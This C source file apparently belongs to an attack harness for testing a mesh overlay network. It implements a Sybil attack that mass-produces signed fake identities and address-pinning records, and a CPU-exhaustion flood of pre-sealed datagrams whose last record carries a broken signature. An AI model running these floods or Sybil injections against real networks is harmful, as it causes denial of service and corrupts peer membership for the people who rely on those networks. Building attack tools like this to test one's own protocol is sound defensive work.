// SPDX-License-Identifier: MIT
/*
 * Volume. `sybil` makes many identities up front (key generation and
 * signing are the attacker's cost, paid before the clock starts) and
 * offers their records as fast as the socket takes them, 8 per datagram.
 * `flood` makes the victim verify signatures: 7 valid records from ids
 * it does not hold and an 8th with a broken signature, so the datagram is
 * refused after all 8 checks and the same records stay unknown forever.
 */
/* sendmmsg: the build defines _GNU_SOURCE */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "att.h"
#include "proto/envelope.h"

/* An identity good enough to sign: record_sign needs only id and sk. */
static void quick_identity(struct identity *idn)
{
	memset(idn, 0, sizeof(*idn));
	crypto_sign_keypair(idn->id, idn->sk);
}

/* ov: a pinned overlay address (tunnel mode: each fake holds its own), or NULL. */
static void small_record(struct wire_record *r, const struct identity *idn, const char *name,
			 const struct wire_addr *endpoint, const struct wire_prefix *ov)
{
	memset(r, 0, sizeof(*r));
	memcpy(r->id, idn->id, WIRE_ID_LEN);
	r->version = 1;
	snprintf(r->name, sizeof(r->name), "%s", name);
	r->n_endpoints = 1;
	r->endpoint[0] = *endpoint;
	r->gossip_port = endpoint->port;
	if (ov) {
		r->n_overlay = 1;
		r->overlay[0] = *ov;
		r->flags = WIRE_REC_ADDR_PINNED;
	}
	if (record_sign(r, idn) < 0)
		att_die("record_sign");
}

static size_t seal_msg(const struct att *a, const struct wire_msg *m, uint8_t *out)
{
	uint8_t plain[WIRE_MAX_PLAINTEXT], nonce[WIRE_NONCE_LEN];
	int n = msg_encode(m, plain, sizeof(plain)), s;

	if (n < 0)
		att_die("msg_encode: %s", wire_strerror(n));
	randombytes_buf(nonce, sizeof(nonce));
	s = envelope_seal(out, WIRE_MAX_DATAGRAM, plain, (size_t)n, a->key, nonce);
	if (s < 0)
		att_die("envelope_seal");
	return (size_t)s;
}

/* A record pinning an address outside the mesh prefix, to every node. */
static void send_outside(struct att *a, const struct att_opts *o, const struct wire_addr *ep)
{
	struct identity idn;
	struct wire_msg m;

	quick_identity(&idn);
	msg_init(&m, WIRE_RECORDS, idn.id);
	small_record(&m.record[0], &idn, "adv-outside", ep, NULL);
	m.record[0].n_overlay = 1;
	if (wire_prefix_parse(&m.record[0].overlay[0], o->outside) < 0)
		att_die("bad --outside %s", o->outside);
	m.record[0].flags = WIRE_REC_ADDR_PINNED;
	if (record_sign(&m.record[0], &idn) < 0)
		att_die("record_sign");
	m.n_records = 1;
	for (int rep = 0; rep < 3; rep++)
		for (int k = 0; k < o->n_nodes; k++)
			att_send(a, &o->node[k], &m);
	identity_wipe(&idn);
}

int cmd_sybil(const struct att_opts *o)
{
	static struct att a;
	long count = o->count > 0 ? o->count : 100000;
	/* 8 records a datagram; 6 or 7 when each carries an overlay address. */
	long n_dg = 0, max_dg = (count + 5) / 6;
	uint8_t *dg = malloc((size_t)max_dg * WIRE_MAX_DATAGRAM);
	uint16_t *len = malloc((size_t)max_dg * sizeof(*len));
	struct wire_addr ep;
	struct wire_prefix pfx;
	struct wire_msg *m = malloc(sizeof(*m));
	uint64_t t0, t1, t2;

	if (!dg || !len || !m)
		att_die("out of memory");
	if (!o->n_nodes || !o->key_file)
		att_die("sybil needs --key and --node");
	att_open(&a, o->bind, o->key_file);
	att_parse_addr(&ep, o->endpoint ? o->endpoint : o->bind);
	if (o->prefix && (wire_prefix_parse(&pfx, o->prefix) < 0 || pfx.family != WIRE_AF_INET ||
			  pfx.len > 16))
		att_die("sybil --prefix wants an IPv4 prefix of /16 or wider, not %s", o->prefix);
	t0 = att_now_ms();
	for (long made = 0; made < count; n_dg++) {
		static const uint8_t none[WIRE_ID_LEN];
		struct identity idn;

		msg_init(m, WIRE_RECORDS, none);  /* sender: set below */
		for (int k = 0; k < WIRE_MAX_RECORDS && made < count; k++, made++) {
			struct wire_prefix ov;
			char name[32];
			int size;

			quick_identity(&idn);
			snprintf(name, sizeof(name), "sybil-%06ld", made);
			if (o->prefix) {
				/* Its own host address, from .16.0 up (the nodes hold .0.N). */
				uint32_t h = 4096 + (uint32_t)(made % 60000);

				ov = pfx;
				ov.ip[2] = (uint8_t)(pfx.ip[2] + (h >> 8));
				ov.ip[3] = (uint8_t)h;
			}
			small_record(&m->record[k], &idn, name, &ep, o->prefix ? &ov : NULL);
			m->n_records++;
			size = msg_encoded_size(m);
			if (size < 0 || size > WIRE_MAX_PLAINTEXT) {
				m->n_records--;   /* the next datagram's first: made again */
				break;
			}
		}
		/* The sender is the first record's owner, as a member sending its own. */
		memcpy(m->sender, m->record[0].id, WIRE_SHORT_ID_LEN);
		if (n_dg == max_dg)
			att_die("sybil: records do not fit 6 a datagram");
		len[n_dg] = (uint16_t)seal_msg(&a, m, dg + (size_t)n_dg * WIRE_MAX_DATAGRAM);
		sodium_memzero(&idn, sizeof(idn));
	}
	t1 = att_now_ms();
	if (o->outside)
		send_outside(&a, o, &ep);
	for (long d = 0; d < n_dg; d++) {
		/* Paced at --rate datagrams/s when given: unpaced, the victims'
		 * socket buffers drop most of it, which would test the kernel. */
		while (o->rate > 0 && (uint64_t)d > (att_now_ms() - t1) * (uint64_t)o->rate / 1000)
			att_sleep_ms(1);
		att_send_raw(&a, &o->node[d % o->n_nodes], dg + (size_t)d * WIRE_MAX_DATAGRAM, len[d]);
	}
	t2 = att_now_ms();
	att_report("attack=sybil identities=%ld datagrams=%ld rate=%ld bytes=%llu gen_ms=%llu "
		   "send_ms=%llu",
		   count, n_dg, o->rate, (unsigned long long)a.sent_bytes, (unsigned long long)(t1 - t0),
		   (unsigned long long)(t2 - t1));
	free(dg);
	free(len);
	free(m);
	return 0;
}

enum { FLOOD_IDS = 64, FLOOD_VARIANTS = 8, FLOOD_RING = 4096, FLOOD_BATCH = 64 };

/*
 * The datagrams are sealed up front (FLOOD_RING distinct nonces, cycled)
 * and sent with sendmmsg, so the attacker spends almost nothing per
 * datagram and the offered rate is what the victim sees, even on a busy
 * machine. A repeat of a ring entry is an exact duplicate: a victim with
 * a replay cache may drop it cheaply, which is a fair defence.
 */
int cmd_flood(const struct att_opts *o)
{
	static struct att a;
	static struct wire_record recs[FLOOD_IDS];
	static uint8_t ring[FLOOD_RING][WIRE_MAX_DATAGRAM];
	static size_t ring_len[FLOOD_RING];
	struct wire_addr to, ep;
	struct sockaddr_in dst;
	double seconds = o->seconds > 0 ? o->seconds : 10;
	long rate = o->rate > 0 ? o->rate : 20000;
	struct wire_msg *m = malloc(sizeof(*m));
	uint64_t t0, end, sent = 0;

	if (!m || !o->key_file || !o->target)
		att_die("flood needs --key and --target");
	att_open(&a, o->bind, o->key_file);
	att_parse_addr(&to, o->target);
	att_parse_addr(&ep, o->endpoint ? o->endpoint : o->bind);
	for (int i = 0; i < FLOOD_IDS; i++) {
		struct identity idn;
		char name[32];

		quick_identity(&idn);
		snprintf(name, sizeof(name), "flood-%02d", i);
		small_record(&recs[i], &idn, name, &ep, NULL);
		sodium_memzero(&idn, sizeof(idn));
	}
	for (int i = 0; i < FLOOD_RING; i++) {
		int v = i % FLOOD_VARIANTS;

		msg_init(m, WIRE_RECORDS, recs[v].id);
		for (int k = 0; k < WIRE_MAX_RECORDS; k++)
			m->record[m->n_records++] = recs[(v * 7 + k) % FLOOD_IDS];
		/* The last one's signature is broken: verified last, refuses all. */
		m->record[WIRE_MAX_RECORDS - 1].sig[0] ^= 1;
		ring_len[i] = seal_msg(&a, m, ring[i]);
	}
	memset(&dst, 0, sizeof(dst));
	dst.sin_family = AF_INET;
	dst.sin_port = htons(to.port);
	memcpy(&dst.sin_addr, to.ip, 4);
	t0 = att_now_ms();
	end = t0 + (uint64_t)(seconds * 1000);
	for (;;) {
		uint64_t now = att_now_ms(), due;
		struct mmsghdr msgs[FLOOD_BATCH];
		struct iovec iov[FLOOD_BATCH];
		unsigned n;
		int r;

		if (now >= end)
			break;
		/* Paced: never ahead of rate * elapsed; catch up without sleeping. */
		due = (now - t0) * (uint64_t)rate / 1000;
		if (sent >= due) {
			att_sleep_ms(1);
			continue;
		}
		n = due - sent < FLOOD_BATCH ? (unsigned)(due - sent) : FLOOD_BATCH;
		memset(msgs, 0, sizeof(msgs));
		for (unsigned k = 0; k < n; k++) {
			size_t slot = (sent + k) % FLOOD_RING;

			iov[k].iov_base = ring[slot];
			iov[k].iov_len = ring_len[slot];
			msgs[k].msg_hdr.msg_iov = &iov[k];
			msgs[k].msg_hdr.msg_iovlen = 1;
			msgs[k].msg_hdr.msg_name = &dst;
			msgs[k].msg_hdr.msg_namelen = sizeof(dst);
		}
		r = sendmmsg(a.fd, msgs, n, 0);
		if (r < 0) {
			if (errno != ENOBUFS && errno != EAGAIN && errno != ECONNREFUSED)
				att_die("sendmmsg: %s", strerror(errno));
			att_sleep_ms(1);
			continue;
		}
		for (int k = 0; k < r; k++)
			a.sent_bytes += iov[k].iov_len;
		a.sent_dgrams += (uint64_t)r;
		sent += (uint64_t)r;
	}
	att_report("attack=cpu_flood datagrams=%llu bytes=%llu seconds=%.1f offered_rate=%ld "
		   "achieved_dps=%.0f",
		   (unsigned long long)a.sent_dgrams, (unsigned long long)a.sent_bytes, seconds, rate,
		   (double)a.sent_dgrams * 1000.0 / (double)(att_now_ms() - t0));
	free(m);
	return 0;
}
